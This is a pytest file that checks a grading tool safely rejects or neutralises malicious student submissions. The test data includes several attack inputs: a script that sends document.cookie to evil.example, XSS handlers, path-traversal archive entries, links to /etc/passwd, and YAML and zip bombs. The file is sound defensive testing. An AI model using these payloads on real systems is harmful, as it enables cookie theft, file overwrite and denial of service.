"""Reading submissions safely: every bad input gets a clear message, and nothing escapes the work folder.

Each case from the grading issue's "Bad input" list has a test: missing, empty, not
UTF-8, YAML syntax errors and bombs, files over 1 MiB, archives with ``..``, absolute
paths or links, archive bombs, HTML in the Markdown; only a submission with nothing
gradable is an error (exit 2).
"""

from __future__ import annotations

import io
import os
import tarfile
import zipfile
from pathlib import Path

import pytest

from lab.errors import SubmissionError
from lab.evidence import submission as sm
from lab.evidence.submission import read_submission

GOOD = {
    "monitoring.yaml": "window: {size: 500}\nperformance: {metric: roc_auc, min: 0.7}\n",
    "model_card.md": "# Card\n\nThe model ranks applications for a recruiter to review.\n",
    "post_market_monitoring.md": "# Plan\n\nSerious incidents are reported within 15 days.\n",
    "datasheet.md": "# Datasheet\n\nThe training set holds 30,000 applications.\n",
    "decisions.yaml": "shadow: {version: 2, decision: keep, rationale: the shadow lost on labelled requests}\n",
}


def folder(tmp_path: Path, files: dict[str, str | bytes], name: str = "answer") -> Path:
    d = tmp_path / name
    d.mkdir()
    for n, content in files.items():
        (d / n).write_bytes(content.encode() if isinstance(content, str) else content)
    return d


def read(path: Path, tmp_path: Path):
    return read_submission(path, work_dir=tmp_path / "home" / "tmp")


def codes(sub) -> dict[str, str]:
    return {p.file: p.code for p in sub.problems}


def tar_with(tmp_path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]], name: str = "a.tar.gz") -> Path:
    path = tmp_path / name
    with tarfile.open(path, "w:gz") as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(info)
    return path


def member(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    return info


def no_escape(tmp_path: Path) -> None:
    """Nothing but what the test wrote exists outside the work folder, and the work folder is empty."""
    work = tmp_path / "home" / "tmp"
    assert not work.exists() or list(work.iterdir()) == []
    assert not (tmp_path.parent / "evil.md").exists()
    assert not Path("/tmp/prodml-evil.md").exists()


# --------------------------------------------------------------------------- folders


def test_a_complete_folder_reads_cleanly(tmp_path):
    sub = read(folder(tmp_path, GOOD), tmp_path)
    assert sorted(sub.files) == sorted(GOOD) and sub.problems == ()
    assert sub.decisions.shadow.decision == "keep"


def test_missing_files_cost_their_points_without_crashing(tmp_path):
    sub = read(folder(tmp_path, {"model_card.md": GOOD["model_card.md"]}), tmp_path)
    assert codes(sub) == {"monitoring.yaml": "missing", "post_market_monitoring.md": "missing",
                          "datasheet.md": "missing"}
    assert "decisions.yaml" not in codes(sub)  # optional
    assert all("missing" in p.message and "score 0" in p.message for p in sub.problems)


@pytest.mark.parametrize("content", [b"", b"  \n\n\t\n"], ids=["zero-bytes", "whitespace"])
def test_empty_files(tmp_path, content):
    sub = read(folder(tmp_path, {**GOOD, "model_card.md": content}), tmp_path)
    assert codes(sub) == {"model_card.md": "empty"} and "model_card.md" not in sub.files


def test_not_utf8_names_the_byte_and_line(tmp_path):
    sub = read(folder(tmp_path, {**GOOD, "post_market_monitoring.md": "# Plan\n\nCaf\xe9 r\xe8gles\n".encode("latin-1")}),
               tmp_path)
    p = sub.problems_for("post_market_monitoring.md")[0]
    assert p.code == "not-utf8" and p.line == 3 and "0xe9" in p.message and "UTF-8" in p.message


def test_binary_file(tmp_path):
    sub = read(folder(tmp_path, {**GOOD, "model_card.md": b"\x89PNG\r\n\x1a\n\x00\x00"}), tmp_path)
    assert codes(sub) == {"model_card.md": "binary"}


def test_yaml_syntax_error_has_its_line(tmp_path):
    sub = read(folder(tmp_path, {**GOOD, "monitoring.yaml": "window:\n  size: 500\ndata_drift: {default: [\n"}),
               tmp_path)
    p = sub.problems_for("monitoring.yaml")[0]
    assert p.code == "yaml" and p.line is not None and "syntax" in p.message
    assert "monitoring.yaml" not in sub.files


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n" \
       "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"


@pytest.mark.parametrize("name", ["monitoring.yaml", "decisions.yaml"])
def test_yaml_bomb_is_refused_before_expansion(tmp_path, name):
    sub = read(folder(tmp_path, {**GOOD, name: BOMB}), tmp_path)
    p = sub.problems_for(name)[0]
    assert p.code == "yaml" and "anchors and aliases" in p.message and p.line == 1


def test_decisions_schema_errors_have_lines(tmp_path):
    sub = read(folder(tmp_path, {**GOOD, "decisions.yaml": "shadow:\n  version: two\n  mood: happy\n"}), tmp_path)
    found = {p.line: p.message for p in sub.problems_for("decisions.yaml")}
    assert 2 in found and "integer" in found[2]
    assert 3 in found and "unknown key" in found[3]
    assert sub.decisions is None


def test_untouched_decisions_template_is_empty_not_wrong(tmp_path):
    template = (Path(__file__).resolve().parents[1] / "runbooks" / "decisions.yaml").read_text()
    sub = read(folder(tmp_path, {**GOOD, "decisions.yaml": template}), tmp_path)
    assert sub.problems == () and sub.decisions.shadow.rationale == "" and sub.decisions.shadow.version is None


def test_file_over_1_mib_is_not_read(tmp_path):
    big = "# Card\n\n" + "word " * (sm.MAX_FILE_BYTES // 5 + 10)
    sub = read(folder(tmp_path, {**GOOD, "model_card.md": big}), tmp_path)
    p = sub.problems_for("model_card.md")[0]
    assert p.code == "too-large" and "1 MiB" in p.message and "model_card.md" not in sub.files


def test_symlink_in_a_folder_leading_out_is_not_followed(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("ssh-private-key")
    d = folder(tmp_path, {k: v for k, v in GOOD.items() if k != "model_card.md"})
    os.symlink(secret, d / "model_card.md")
    sub = read(d, tmp_path)
    assert codes(sub) == {"model_card.md": "link"} and "model_card.md" not in sub.files


def test_html_and_script_in_markdown_are_neutralised_and_noted(tmp_path):
    card = ("# Card\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n"
            "The model <b>ranks</b> applications. <img src=x onerror=\"alert(1)\">\n"
            "<a href=\"javascript:alert(2)\">link</a>\n<iframe src=\"https://evil.example\"></iframe>\n")
    sub = read(folder(tmp_path, {**GOOD, "model_card.md": card}), tmp_path)
    text = sub.text("model_card.md")
    assert "<script" not in text and "document.cookie" not in text and "onerror" not in text
    assert "javascript:" not in text and "<iframe" not in text
    assert "The model <b>ranks</b> applications." in text
    assert text.count("\n") == card.count("\n")  # line numbers in feedback stay right
    p = sub.problems_for("model_card.md")[0]
    assert p.code == "html" and "script" in p.message and "neutralised" in p.message
    assert sub.notes and "model_card.md" in sub.notes[0]


# --------------------------------------------------------------------------- archives


def test_tar_gz_and_zip_with_a_top_folder_read_like_the_folder(tmp_path):
    d = folder(tmp_path, GOOD)
    tgz = tmp_path / "answer.tar.gz"
    with tarfile.open(tgz, "w:gz") as tar:
        tar.add(d, arcname="answer")
    z = tmp_path / "answer.zip"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        for n, c in GOOD.items():
            zf.writestr(f"answer/{n}", c)
    for path in (tgz, z):
        sub = read(path, tmp_path)
        assert sorted(sub.files) == sorted(GOOD) and sub.problems == ()
        assert sub.text("model_card.md") == GOOD["model_card.md"]
    no_escape(tmp_path)


@pytest.mark.parametrize("evil", ["../evil.md", "answer/../../evil.md", "/tmp/prodml-evil.md"],
                         ids=["dotdot", "nested-dotdot", "absolute"])
def test_archive_entries_leading_out_are_refused(tmp_path, evil):
    members = [(member(n), c.encode()) for n, c in GOOD.items()] + [(member(evil), b"owned")]
    sub = read(tar_with(tmp_path, members), tmp_path)
    p = next(p for p in sub.problems if p.code == "unsafe-path")
    assert evil in p.message and ("'..'" in p.message or "absolute" in p.message)
    assert sorted(sub.files) == sorted(GOOD)
    no_escape(tmp_path)


def test_zip_entries_leading_out_are_refused(tmp_path):
    z = tmp_path / "a.zip"
    with zipfile.ZipFile(z, "w") as zf:
        for n, c in GOOD.items():
            zf.writestr(n, c)
        zf.writestr("../evil.md", "owned")
        zf.writestr("/tmp/prodml-evil.md", "owned")
    sub = read(z, tmp_path)
    assert [p.code for p in sub.problems] == ["unsafe-path", "unsafe-path"]
    assert sorted(sub.files) == sorted(GOOD)
    no_escape(tmp_path)


@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE], ids=["symlink", "hardlink"])
def test_links_in_an_archive_are_not_followed(tmp_path, kind):
    members = [(member(n), c.encode()) for n, c in GOOD.items() if n != "model_card.md"]
    members.append((member("model_card.md", kind, "/etc/passwd"), None))
    sub = read(tar_with(tmp_path, members), tmp_path)
    p = sub.problems_for("model_card.md")[0]
    assert p.code == "link" and "/etc/passwd" in p.message and "model_card.md" not in sub.files
    no_escape(tmp_path)


def test_zip_symlink_is_not_followed(tmp_path):
    z = tmp_path / "a.zip"
    with zipfile.ZipFile(z, "w") as zf:
        for n, c in GOOD.items():
            if n != "model_card.md":
                zf.writestr(n, c)
        info = zipfile.ZipInfo("model_card.md")
        info.external_attr = (0o120777 << 16)
        zf.writestr(info, "/etc/passwd")
    sub = read(z, tmp_path)
    assert sub.problems_for("model_card.md")[0].code == "link"


def test_zip_bomb_is_refused_by_its_compression_ratio(tmp_path):
    z = tmp_path / "bomb.zip"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("model_card.md", GOOD["model_card.md"])
        zf.writestr("padding.bin", b"\0" * (4 * 1024 * 1024))
    with pytest.raises(SubmissionError, match="archive bomb") as exc:
        read(z, tmp_path)
    assert "expands" in str(exc.value)
    no_escape(tmp_path)


def test_tar_with_too_many_entries_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(sm, "MAX_ENTRIES", 20)
    members = [(member(f"junk/{i}.txt"), b"x") for i in range(25)]
    with pytest.raises(SubmissionError, match="more than 20 entries"):
        read(tar_with(tmp_path, members), tmp_path)
    no_escape(tmp_path)


def test_tar_bomb_is_stopped_by_the_size_limits(tmp_path, monkeypatch):
    monkeypatch.setattr(sm, "MAX_ENTRY_BYTES", 256 * 1024)
    members = [(member("model_card.md"), GOOD["model_card.md"].encode()), (member("big.bin"), b"\0" * (512 * 1024))]
    with pytest.raises(SubmissionError, match="archive bomb"):
        read(tar_with(tmp_path, members), tmp_path)
    monkeypatch.setattr(sm, "MAX_ENTRY_BYTES", 64 * 1024 * 1024)
    monkeypatch.setattr(sm, "MAX_TOTAL_BYTES", 256 * 1024)  # the decompressed stream itself is capped too
    with pytest.raises(SubmissionError, match="archive bomb"):
        read(tar_with(tmp_path, members, "b.tar.gz"), tmp_path)


def test_oversized_member_in_an_archive_is_not_read(tmp_path):
    members = [(member(n), c.encode()) for n, c in GOOD.items() if n != "model_card.md"]
    members.append((member("model_card.md"), b"a" * (sm.MAX_FILE_BYTES + 1)))
    sub = read(tar_with(tmp_path, members), tmp_path)
    assert sub.problems_for("model_card.md")[0].code == "too-large"


# --------------------------------------------------------------------------- nothing to grade


@pytest.mark.parametrize("case", ["missing-path", "empty-folder", "wrong-type", "corrupt-tar", "corrupt-zip",
                                  "all-bad"])
def test_only_a_submission_with_nothing_gradable_is_an_error(tmp_path, case):
    if case == "missing-path":
        path = tmp_path / "nope"
    elif case == "empty-folder":
        path = folder(tmp_path, {})
    elif case == "wrong-type":
        path = tmp_path / "answer.docx"
        path.write_bytes(b"PK")
    elif case == "corrupt-tar":
        path = tmp_path / "answer.tar.gz"
        path.write_bytes(b"\x1f\x8b\x08\x00garbage")
    elif case == "corrupt-zip":
        path = tmp_path / "answer.zip"
        path.write_bytes(b"PK\x03\x04garbage")
    else:
        path = folder(tmp_path, {"model_card.md": b"", "monitoring.yaml": b"\xff\xfe"})
    with pytest.raises(SubmissionError) as exc:
        read(path, tmp_path)
    assert exc.value.exit_code == 2 and exc.value.message
    no_escape(tmp_path)


def test_cli_exits_2_only_when_nothing_could_be_graded(tmp_path, capsys):
    from lab.cli import main

    empty = folder(tmp_path, {})
    with pytest.raises(SystemExit) as exc:
        main(["grade", "--evidence", str(tmp_path / "no-bundle"), str(empty), "--home", str(tmp_path / "h")])
    assert exc.value.code == 2
    assert "nothing could be graded" in capsys.readouterr().err
